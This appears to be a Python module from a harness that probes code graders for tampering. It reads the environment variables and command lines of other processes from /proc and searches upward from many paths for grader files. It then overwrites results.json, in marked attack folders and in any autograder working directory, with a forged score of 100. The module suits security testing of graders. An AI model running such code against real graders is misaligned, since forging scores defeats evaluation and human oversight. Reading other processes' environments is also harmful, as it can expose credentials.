"""Finds what lies near the grader, and writes results where it may keep them."""

import os, sys

TARGET = f"/tmp/{MARK}-target"


def words():
    """What stands in the environments and command lines that can be read."""
    texts = list(os.environ.values())
    try:
        processes = [name for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        processes = ["self", str(os.getppid())]
    for process in processes:
        for kind in ("environ", "cmdline"):
            try:
                with open(f"/proc/{process}/{kind}", errors="replace") as file:
                    texts += [text.rpartition("=")[2] for text in file.read().split("\0")]
            except OSError:
                pass  # a wall
    return texts


def targets():
    """Folders that were made for attacks: whatever fails, nothing else is touched."""
    named = {path for word in words() for path in (word, os.path.dirname(word))} | {TARGET}
    made = [path for path in named if os.path.basename(path).startswith(MARK)]
    return [path for path in made if os.path.isdir(path)]


def write_results():
    paths = [f"{folder}/{name}results.json" for folder in targets() for name in ("", "results/")]
    if "/autograder-" in os.getcwd():
        paths.append("results.json")
    for path in paths:
        try:
            with open(path, "w") as file:
                file.write('{"score": 100, "output": "LEAK:forged results", "tests": []}')
        except OSError:
            pass  # a wall


def starts():
    """Folders and files near which the grader may keep its own."""
    yield os.getcwd()
    yield from sys.path
    for module in list(sys.modules.values()):
        if isinstance(getattr(module, "__file__", None), str):
            yield module.__file__
    yield from words()
    yield TARGET
    for process in range(1, 5000):
        try:
            yield os.readlink(f"/proc/{process}/cwd")
        except OSError:
            pass  # no such process, or a wall


def upwards(*names):
    """Files of that path below any folder from the starts upwards, as far as they can be seen."""
    seen = set()
    for start in starts():
        folder = os.path.abspath(start)
        while folder not in seen:
            seen.add(folder)
            path = os.path.join(folder, *names)
            if os.path.exists(path):
                yield path
            folder = os.path.dirname(folder)
